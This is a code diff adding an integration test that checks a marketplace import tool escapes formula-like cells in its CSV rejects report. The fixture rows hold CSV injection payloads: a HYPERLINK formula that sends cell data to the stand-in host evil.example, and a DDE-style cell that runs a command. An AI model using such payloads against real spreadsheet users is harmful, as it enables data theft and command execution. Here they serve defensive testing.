@@ -10,6 +10,7 @@ from typing import Any
 
 import pytest
 
+from market.listings.rejects import FORMULA_STARTS
 from tests.integration.test_cli import _market
 from tests.integration.test_import_cli import HEADER
 
@@ -100,3 +101,38 @@ async def test_a_rejects_path_that_cannot_be_written_is_refused_before_any_row(
     assert "Traceback" not in result.stderr and "does not exist" in result.stderr
     assert await _count(app, org.id) == 0
     assert not missing.parent.exists()
+
+
+async def test_cells_of_the_rejects_report_cannot_start_a_formula(
+    make_org: Any, app: Any, settings: Any, tmp_path: Path
+) -> None:
+    org = await make_org()
+    source = tmp_path / "hostile.csv"
+    out = io.StringIO()
+    rows = [
+        ['=HYPERLINK("http://evil.example/?x="&A1,"Open")', *GOOD.split(",")],
+        [
+            "@SUM(1+1)*cmd|' /C calc'!A0",
+            "offer",
+            "Plates",
+            "999999",
+            "100",
+            "H87",
+            "UZ",
+            "Tashkent",
+            "KZ",
+            "Almaty",
+        ],
+        ["H-3", "offer", "+1 plates", "691200", "-5", "H87", "UZ", "Tashkent", "KZ", "Almaty"],
+        ["H-4", "offer", "Plates", "691200", "=1+1", "H87", "UZ", "Tashkent", "KZ", "Almaty"],
+    ]
+    csv.writer(out).writerows([HEADER.split(","), *rows])
+    source.write_text(out.getvalue())
+    result = _market(settings, "import", str(source), "--organization", org.id)
+    assert result.returncode == 0, result.stderr
+    assert "0 created, 0 updated, 4 rejected" in result.stderr
+    report = list(csv.reader(io.StringIO((tmp_path / "hostile.rejects.csv").read_bytes().decode())))
+    cells = [cell for row in report for cell in row]
+    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
+    assert '\'=HYPERLINK("http://evil.example/?x="&A1,"Open")' in cells
+    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in cells
